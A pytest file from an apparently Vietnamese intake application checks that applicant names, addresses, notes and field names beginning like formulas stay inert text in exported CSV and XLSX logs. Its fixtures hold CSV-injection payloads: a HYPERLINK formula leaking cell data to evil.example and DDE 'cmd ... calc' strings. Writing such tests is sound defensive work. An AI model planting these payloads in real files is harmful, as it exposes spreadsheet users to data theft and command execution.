"""Spreadsheets stay data (issue 9.5): text that begins like a formula is never evaluated.

Names, addresses, notes, clerks' names, procedure and field names that begin with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return go into the daily log's CSV and XLSX and into report
06a's XLSX as text: no ``<f>`` element in any sheet's XML, Excel's quote-prefix flag on the
cell, the cell's value the original string; in the CSV every field is quoted and such a text
has one ``'`` in front (OWASP's guard), which `csv_uncell` removes.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from conftest import ADMIN, SUPERVISOR, TEST_PASSWORD, FakeClock, acting, at, intake_request
from conftest import run_cli as run
from openpyxl.utils.escape import unescape
from test_log_documents import make_rows

from intake_app.documents.log_export import COLUMNS, write_log_csv, write_log_xlsx
from intake_app.documents.sheets import (
    FORMULA_PREFIXES,
    csv_rows_text,
    csv_uncell,
    save_workbook,
    sheet_cell,
)
from intake_app.domain.accounts import Role
from intake_app.domain.dossier_log import build_log
from intake_app.domain.text import nfc

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
NAMES = [HYPERLINK, "+84 Nguyễn Văn Đức", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*Lê Thị Hoa"]
ADDRESS = "=1+2;=3+4,Thôn Phước Yên"  # a separator inside must not start a new cell
NOTE = "-Nộp thay"
CLERK = "@Trần Văn Nam"
FIELD_NAME = "=cmd|' /C calc'!A0"
PROCEDURE_NAME = "+Chứng thực bản sao (thử)"


def sheet_xml(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [archive.read(name).decode("utf-8") for name in archive.namelist()
                if name.startswith("xl/worksheets/") and name.endswith(".xml")]


def excel_value(value: object) -> object:
    """What Excel and LibreOffice read from a cell: OOXML ``_xHHHH_`` escapes undone."""
    return unescape(value) if isinstance(value, str) else value


@pytest.fixture
def hostile_station(make_desk, tmp_path):
    """Dossiers whose texts all begin like formulas, on closed days; a catalogue entry too."""
    clock = FakeClock(at("2026-03-02 08:00"))
    desk = make_desk(clock)
    base = next(p for p in desk.procedures() if p.code == "2.000815")
    from intake_app.domain.procedures import procedure_to_dict

    entry = {**procedure_to_dict(base), "code": "9.999001", "name": PROCEDURE_NAME,
             "field_code": "=F", "field_name": FIELD_NAME}
    catalogue = tmp_path / "catalogue.json"
    catalogue.write_text(json.dumps({"procedures": [entry]}, ensure_ascii=False),
                         encoding="utf-8")
    with acting(desk, SUPERVISOR):
        desk.import_catalogue(catalogue)
    with acting(desk, ADMIN):  # a clerk whose account name starts like a formula
        desk.accounts.add("nam.at", CLERK, Role.CLERK, TEST_PASSWORD, temporary=False)
    desk.act_as("nam.at")
    for index, name in enumerate(NAMES):
        clock.advance(minutes=20)
        request = intake_request(procedure="9.999001" if index % 2 else "2.000815", note=NOTE)
        request["applicant"] = {**request["applicant"], "name": name, "address": ADDRESS}
        desk.receive(request)
    desk.close()
    return desk.data_dir


def test_the_log_as_xlsx_has_no_formula_and_reads_back_the_same_text(
    hostile_station, capsys, tmp_path
):
    out = tmp_path / "so.xlsx"
    status, _, err = run(capsys, hostile_station, "log", "--from", "2026-03-02",
                         "--to", "2026-03-02", "--out", str(out), user=SUPERVISOR)
    assert status == 0, err
    for xml in sheet_xml(out):
        assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(out).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    full_address = f"{ADDRESS}, Phường Phong Quảng, Thành phố Huế"  # with the picked places
    for text in [*NAMES, full_address, NOTE, CLERK, PROCEDURE_NAME]:
        assert text in cells, text  # the same string, not a formula, not changed
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix  # Excel keeps it text when the cell is edited


def test_the_log_as_csv_is_quoted_and_guarded_as_owasp_says(hostile_station, capsys, tmp_path):
    out = tmp_path / "so.csv"
    status, _, err = run(capsys, hostile_station, "log", "--from", "2026-03-02",
                         "--to", "2026-03-02", "--out", str(out), user=SUPERVISOR)
    assert status == 0, err
    raw = out.read_bytes().decode("utf-8-sig")
    for line in raw.split("\r\n")[:-1]:
        assert re.fullmatch(r'"([^"]|"")*"(,"([^"]|"")*")*', line), line  # every field quoted
    records = list(csv.reader(raw.splitlines()))
    header, data = records[0], records[1:]
    column = {heading: header.index(heading) for heading in header}
    assert len(data) == len(NAMES)
    for record, name in zip(data, NAMES, strict=True):
        assert record[column["Tên cá nhân, tổ chức"]] == "'" + name
        assert record[column["Người tiếp nhận"]] == "'" + CLERK
        assert record[column["Ghi chú"]] == "'" + NOTE
        for field in record:
            assert not field.startswith(FORMULA_PREFIXES)  # nothing a spreadsheet would run
        assert csv_uncell(record[column["Tên cá nhân, tổ chức"]]) == name
        assert csv_uncell(record[column["Địa chỉ"]]).startswith(ADDRESS)
    assert record[column["Mã hồ sơ"]].startswith("000.00.12.H56-260302-")  # others unchanged


def test_report_06a_xlsx_keeps_a_field_name_that_begins_like_a_formula(
    hostile_station, capsys, tmp_path
):
    out = tmp_path / "06a.xlsx"
    status, _, err = run(capsys, hostile_station, "report", "--from", "2026-03-01",
                         "--to", "2026-03-31", "--out", str(out), user=SUPERVISOR)
    assert status == 0, err
    for xml in sheet_xml(out):
        assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(out).active
    labels = [cell for row in sheet.iter_rows() for cell in row if cell.value == FIELD_NAME]
    assert len(labels) == 1 and labels[0].quotePrefix and labels[0].data_type == "s"


PREFIXES = ["=", "+", "-", "@", "\t", "\r", "'", "_x0041_", ""]


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_cell_of_any_text_stays_that_text(prefix: str, tmp_path: Path) -> None:
    """The shared writers themselves, with the tab and carriage return the log's single-spaced
    text never begins with, a control character and a literal OOXML escape."""
    text = f"{prefix}1+1 Nguyễn\rVăn\x01\t_x0042_"
    workbook = openpyxl.Workbook()
    sheet_cell(workbook.active, 1, 1, text)
    workbook.active["A2"] = "=1+2"  # put in past `sheet_cell`: still not a formula
    path = tmp_path / "cells.xlsx"
    save_workbook(workbook, path)
    for xml in sheet_xml(path):
        assert "<f>" not in xml and "\r" not in xml
    cell, other = openpyxl.load_workbook(path).active["A1:A2"]
    assert excel_value(cell[0].value) == text
    assert cell[0].quotePrefix == text.startswith(FORMULA_PREFIXES)
    assert other[0].value == "=1+2" and other[0].data_type == "s"

    rows = list(csv.reader(io.StringIO(csv_rows_text([[text, "x"]]), newline="")))
    assert [csv_uncell(field) for field in rows[0]] == [text, "x"]
    assert not rows[0][0].startswith(FORMULA_PREFIXES)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_every_prefix_in_every_log_column_reads_back(prefix: str, tmp_path: Path) -> None:
    """Straight from log rows (the window's path too), every text column, every prefix; the
    log writes each text single-spaced in NFC (`domain.text.nfc`), which is what comes back."""
    raw = f"{prefix}1+1 Nguyễn\rVăn\x01 _x0042_"
    text = nfc(raw)
    rows = [replace(row, ledger_book=raw, procedure_name=raw, applicant_name=raw,
                    address=raw, phone=raw, processing_unit=raw, clerk=raw, note=raw)
            for row in make_rows()[:3]]
    log = build_log(rows, {}, start=date(2026, 2, 11), end=date(2026, 2, 11),
                    unit_name=raw, place_name="Ưu Điềm", clerk=None, today=date(2026, 2, 20))
    xlsx, csv_path = tmp_path / "so.xlsx", tmp_path / "so.csv"
    write_log_xlsx(log, xlsx)
    write_log_csv(log, csv_path)

    for xml in sheet_xml(xlsx):
        assert "<f>" not in xml and "<f " not in xml
        assert "\r" not in xml  # an XML reader would turn it into a line feed
    sheet = openpyxl.load_workbook(xlsx).active
    headings = [heading for heading, _, _ in COLUMNS]
    text_columns = [headings.index(h) + 1 for h in ("Quyển số", "Tên thủ tục hành chính",
                    "Tên cá nhân, tổ chức", "Địa chỉ", "Số điện thoại",
                    "Cơ quan chủ trì giải quyết", "Người tiếp nhận", "Ghi chú")]
    first_data = 6
    for column in text_columns:
        cell = sheet.cell(first_data, column)
        assert excel_value(cell.value) == text, headings[column - 1]
        assert cell.data_type == "s"
        assert cell.quotePrefix == text.startswith(FORMULA_PREFIXES)
    assert excel_value(sheet["A1"].value).endswith(text)

    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        records = list(csv.reader(handle))
    for record in records[1:]:
        fields = [record[column - 1] for column in text_columns]
        assert [csv_uncell(field) for field in fields] == [text] * len(fields)
        guarded = text.startswith((*FORMULA_PREFIXES, "'"))
        assert all(field == ("'" + text if guarded else text) for field in fields)
